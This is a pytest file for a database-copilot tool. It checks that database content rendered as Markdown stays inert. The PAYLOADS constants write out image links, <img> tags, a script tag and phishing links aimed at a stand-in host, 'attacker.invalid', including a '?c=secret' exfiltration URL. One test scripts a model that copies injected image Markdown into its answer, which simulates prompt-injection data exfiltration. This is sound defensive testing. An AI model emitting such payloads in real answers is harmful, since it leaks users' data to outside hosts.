"""Text from the database is data: never rendered as Markdown or HTML, and answers load no remote image.

A scratch database holds rows, names, a comment, query texts and sessions carrying image Markdown, HTML,
links, pipes and line breaks. The real tools, the whole `ask` pipeline (grounded, and with an OpenAI-compatible
server whose model copies the payload into its answer) and the chat page run on it; every piece of Markdown
they produce is rendered with a CommonMark renderer (raw HTML enabled, the worst case) and must contain no
<img>, no live tag and no link to the attacker, while the data itself still reads the same.
"""
from __future__ import annotations

from agent.render import markdown

import html
import re
import threading
import time
from pathlib import Path

import psycopg
import pytest
from markdown_it import MarkdownIt

from agent.config import Settings, get_settings
from agent.pipeline import Pipeline
from agent.sanitize import safe_markdown
from toolkits.postgres import PgContext, build_registry
from agent.render import cell, md_code, md_fence, md_table, md_text

try:
    from tests.scripted_llm import ScriptedLLM
except ImportError:  # tests/ not a package
    from scripted_llm import ScriptedLLM

HOSTILE_DB = "dbcopilot_render_test"
EVIL = "http://attacker.invalid"
IMAGE = f"![x]({EVIL}/leak.png?c=secret)"
PAYLOADS = [
    IMAGE,
    f"<img src={EVIL}/img.png>",
    "<script>alert(1)</script>",
    f"[click me]({EVIL}/phish) and a | pipe | inside",
    f"line one\n# heading\n- item\n```\n![y]({EVIL}/y.png)\n```",
    f"`![z]({EVIL}/z.png)` and $x$ and :red[red] &lt;b&gt; **bold** _it_",
    f"<{EVIL}/autolink> &#33;[e]({EVIL}/e.png) ![r][ref]\n\n[ref]: {EVIL}/ref.png",
]
HOSTILE_TABLE = f"![t]({EVIL}/t.png)"
HOSTILE_INDEX = f"<img src={EVIL}/i.png>"
COMMENT = f"![c]({EVIL}/comment.png) <img src=x>"
QUERY_MARK = f"/* ![q]({EVIL}/q.png) <img src=x> */"
SESSION_MARK = f"/* ![s]({EVIL}/s.png) <script>x</script> */"

MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def rendered(markdown: str) -> str:
    return MD.render(markdown)


def assert_inert(markdown: str, where: str = "", headings: bool = False) -> str:
    """Render ``markdown``; no image, no live HTML tag, no link to the attacker (and, unless ``headings``, no
    heading: a line break in the data did not start a new block). Returns the HTML."""
    out = rendered(markdown)
    assert "<img" not in out, (where, markdown)
    assert not re.search(r"<(script|iframe|object|embed|svg|style|b)\b", out), (where, markdown)
    assert f'href="{EVIL}' not in out, (where, markdown)
    assert headings or not re.search(r"<h[1-6]>", out), (where, markdown)
    return out


def visible_text(html_out: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", html_out))


# --------------------------------------------------------------------------- the helpers themselves


@pytest.mark.parametrize("payload", PAYLOADS + ["".join(chr(c) for c in range(33, 127)), "#", "- x", "1. x", "a_b_c"])
def test_md_text_and_cell_show_the_text_literally(payload):
    one_line = " ".join(payload.split())
    for text in (md_text(payload), f"| c |\n|---|\n| {cell(payload, 10_000)} |"):  # a cell lives in a table
        out = assert_inert(text, payload)
        assert visible_text(out).strip().removeprefix("c").strip() == one_line.strip()


def test_md_table_keeps_its_shape_and_code_cannot_be_closed():
    table = md_table(["id", "body"], [(i, p) for i, p in enumerate(PAYLOADS)])
    out = assert_inert(table)
    rows = re.findall(r"<tr>(.*?)</tr>", out, re.S)
    assert len(rows) == len(PAYLOADS) + 1
    assert all(len(re.findall(r"<t[hd]\b", r)) == 2 for r in rows)  # a pipe in a cell does not add a column
    for p in PAYLOADS:
        code = md_code(p)
        assert "<img" not in rendered(code) and visible_text(rendered(code)).strip() == " ".join(p.split())
        fenced = md_fence(p + "\n```\n" + IMAGE, "sql")
        assert "<img" not in rendered(fenced) and rendered(fenced).count("<pre>") == 1


def test_safe_markdown_neutralises_images_and_html_but_leaves_answers_alone():
    ordinary = ("Findings:\n- **orders**: 41 % dead tuples\n\n| a | b |\n|---|---|\n| 1 | x < y |\n\n"
                "[VACUUM](Manual?page=sql-vacuum.html) `a <b> ![c](d)`\n\n```sql\nSELECT '<img src=x>' AS t\n```")
    assert safe_markdown(ordinary) == ordinary
    for bad in (IMAGE, f"<img src={EVIL}/a.png>", f"[![x]({EVIL}/a.png)]({EVIL})", f"text <script>1</script>",
                f"`x\n\n{IMAGE}\n\n`", f"| `a | {IMAGE} | b` |", f"- a\n\n  ```\n{IMAGE}\n```",
                f"![r][ref]\n\n[ref]: {EVIL}/ref.png", f"<{EVIL}/autolink>"):
        out = rendered(safe_markdown(bad))
        assert "<img" not in out and "<script" not in out, bad
    assert safe_markdown(IMAGE) != IMAGE and IMAGE in visible_text(rendered(safe_markdown(IMAGE)))


# --------------------------------------------------------------------------- a database full of payloads


@pytest.fixture(scope="module")
def hostile(scratch_database):
    """{"dsn", "ctx", "reg"}: rows, a table, an index, a comment and pg_stat_statements texts carrying payloads."""
    with scratch_database(HOSTILE_DB) as dsn:
        with psycopg.connect(dsn, autocommit=True) as conn:
            conn.execute("CREATE EXTENSION pg_stat_statements; CREATE EXTENSION hypopg")
            conn.execute("CREATE TABLE notes (id int PRIMARY KEY, body text)")
            for i, p in enumerate(PAYLOADS, 1):
                conn.execute("INSERT INTO notes VALUES (%s, %s)", (i, p))
            conn.execute(psycopg.sql.SQL("COMMENT ON TABLE notes IS {}").format(psycopg.sql.Literal(COMMENT)))
            conn.execute(psycopg.sql.SQL("CREATE TABLE {} (id int, {} text) WITH (autovacuum_enabled = false)").format(
                psycopg.sql.Identifier(HOSTILE_TABLE), psycopg.sql.Identifier(HOSTILE_INDEX)))
            conn.execute(psycopg.sql.SQL("CREATE INDEX {} ON notes (body)").format(psycopg.sql.Identifier(HOSTILE_INDEX)))
            for i in range(20):
                conn.execute(f"SELECT body FROM notes WHERE id = %s {QUERY_MARK}", (i + 1,)).fetchall()
            conn.execute("ANALYZE")
        yield {"dsn": dsn, "ctx": PgContext(dsn=dsn), "reg": build_registry()}


def test_every_tool_output_is_inert(hostile):
    reg, ctx = hostile["reg"], hostile["ctx"]
    inputs = {"run_sql": "SELECT id, body FROM notes ORDER BY id", "describe_table": "notes",
              "explain_query": "SELECT body FROM notes WHERE id = 1", "index_advice": "SELECT * FROM notes WHERE body = 'x'",
              "active_sessions": "all", "top_queries": "calls 50"}
    idle = psycopg.connect(hostile["dsn"], autocommit=True)  # another session whose last query carries a payload
    try:
        idle.execute(f"SELECT 1 {SESSION_MARK}").fetchall()
        outputs = {}
        for tool in reg.all():
            res = reg.call(tool.spec.name, ctx, inputs.get(tool.spec.name, ""))
            assert res.ok, (tool.spec.name, res.error)
            outputs[tool.spec.name] = markdown(res)
            assert_inert(markdown(res), tool.spec.name)
    finally:
        idle.close()
    text = visible_text(rendered(outputs["run_sql"]))
    assert IMAGE in text and f"<img src={EVIL}/img.png>" in text  # the data still reads as it is
    assert "![q]" in visible_text(rendered(outputs["top_queries"]))
    assert "![s]" in visible_text(rendered(outputs["active_sessions"]))
    assert HOSTILE_INDEX in visible_text(rendered(outputs["index_usage"]))
    assert HOSTILE_TABLE in visible_text(rendered(outputs["list_tables"]))
    assert HOSTILE_TABLE in visible_text(rendered(outputs["table_health"]))  # its autovacuum finding names it
    assert "![c]" in visible_text(rendered(outputs["describe_table"]))
    hostile_table = reg.call("describe_table", ctx, "public." + HOSTILE_TABLE)  # its name has a dot
    assert hostile_table.ok and HOSTILE_TABLE in visible_text(assert_inert(markdown(hostile_table)))


def test_lock_tree_query_texts_are_inert(hostile):
    holder = psycopg.connect(hostile["dsn"])
    holder.execute(f"LOCK TABLE notes IN ACCESS EXCLUSIVE MODE {SESSION_MARK}")
    waiter = psycopg.connect(hostile["dsn"], autocommit=True)
    t = threading.Thread(target=lambda: waiter.execute(f"SELECT count(*) FROM notes {QUERY_MARK}").fetchall())
    t.start()
    try:
        with psycopg.connect(hostile["dsn"], autocommit=True) as probe:
            for _ in range(100):
                if probe.execute("SELECT cardinality(pg_blocking_pids(%s)) > 0", (waiter.info.backend_pid,)).fetchone()[0]:
                    break
                time.sleep(0.05)
        res = hostile["reg"].call("locks", hostile["ctx"], "")
        assert res.ok and res.records(), markdown(res)
        text = visible_text(assert_inert(markdown(res), "locks"))
        assert "![q]" in text and "![s]" in text
    finally:
        holder.rollback()
        holder.close()
        t.join(10)
        waiter.close()


def test_error_messages_quoting_data_are_inert(hostile):
    reg, ctx = hostile["reg"], hostile["ctx"]
    for name, arg in (("run_sql", "SELECT body::int FROM notes WHERE id = 2"), ("describe_table", IMAGE),
                      ("run_sql", f'SELECT "{IMAGE}" FROM notes')):
        res = reg.call(name, ctx, arg)
        assert not res.ok and "\n" not in res.error  # one literal line; the renderer makes it inert
        assert_inert(markdown(res), name)


# --------------------------------------------------------------------------- the whole pipeline


def _answer_and_calls(events):
    calls = [e.data for e in events if e.kind == "tool_call"]
    answers = [e.data["text"] for e in events if e.kind == "answer"]
    assert answers, [e.to_dict() for e in events]
    return answers[-1], calls


def test_ask_grounded_on_the_hostile_database(hostile, tmp_path):
    settings = Settings(data_dir=tmp_path, llm_backend="grounded", dsn=hostile["dsn"])
    events = list(Pipeline(settings).ask("show me the rows of the notes table", route="instance"))
    answer, calls = _answer_and_calls(events)
    assert calls and all(c["ok"] for c in calls), calls
    for c in calls:
        assert_inert(c["output"], c["tool"])
    assert IMAGE in visible_text(assert_inert(answer, "answer"))


def test_ask_with_a_model_that_copies_the_payload_into_its_answer(hostile, tmp_path):
    """The injected-model case: an OpenAI-compatible server whose model reads the notes and then writes the
    row's image Markdown and an <img> tag into its final answer, as a prompt injection would ask."""

    def reply(messages):
        if not any(m.get("role") == "assistant" for m in messages):  # no step yet
            return "Thought: read the notes\nAction: run_sql\nAction_Input: SELECT body FROM notes ORDER BY id"
        return (f"Thought: done\nFinal_Answer: Summary of the notes: {IMAGE} "
                f"<img src={EVIL}/direct.png> and [details]({EVIL}/d) ![again]({EVIL}/again.png)")

    with ScriptedLLM(reply) as llm:
        settings = Settings(data_dir=tmp_path, llm_backend="openai", llm_base_url=llm.url, llm_model="scripted",
                            dsn=hostile["dsn"])
        events = list(Pipeline(settings).ask("summarise the notes table", route="instance"))
    answer, calls = _answer_and_calls(events)
    assert [c["tool"] for c in calls] == ["run_sql"] and calls[0]["ok"]
    assert_inert(calls[0]["output"], "run_sql")
    out = rendered(answer)
    assert "<img" not in out and "<script" not in out, answer
    assert "".join(e.data["text"] for e in events if e.kind == "token") == answer


# --------------------------------------------------------------------------- the chat page (Streamlit AppTest)


def test_chat_page_renders_no_image_from_a_row(hostile, tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    for name in ("DBCOPILOT_LLM_BASE_URL", "DBCOPILOT_LLM_MODEL", "DBCOPILOT_LLM_API_KEY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("DBCOPILOT_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("DBCOPILOT_LLM_BACKEND", "grounded")
    monkeypatch.setenv("DBCOPILOT_CONFIG", str(tmp_path / "none.toml"))
    monkeypatch.setenv("DBCOPILOT_DSN", hostile["dsn"])
    monkeypatch.setenv("DBCOPILOT_ROUTE", "instance")
    get_settings.cache_clear()
    try:
        app = str(Path(__file__).resolve().parents[1] / "app" / "streamlit_app.py")
        at = AppTest.from_file(app, default_timeout=120).run()
        at.chat_input(key="question").set_value("show me the rows of the notes table").run()
        assert not at.exception, at.exception
        texts = [m.value for m in at.markdown] + [c.value for c in at.caption] + [e.value for e in at.error]
        assert any("notes" in t for t in texts)
        assert any("leak.png" in t for t in texts), texts  # the row is shown ...
        for t in texts:
            assert_inert(t, "page", headings=True)  # ... as text (the page's own title is a heading)
        at.run()  # a rerun replays the stored message the same way
        for t in [m.value for m in at.markdown]:
            assert_inert(t, "replay", headings=True)
    finally:
        get_settings.cache_clear()


def test_a_comment_cell_keeps_its_codes_and_other_cells_stay_short():
    from agent.render import MAX_CELL, md_table

    says = "; ".join(f"S{k} = status number {k} of the flight" for k in range(12))  # ~400 characters
    out = md_table(["column", "comment", "value"], [("status", says, "x" * 300)])
    assert says in out and "S11 = status number 11" in out  # the whole meaning list
    assert "x" * MAX_CELL not in out and "…" in out  # a value is still cut
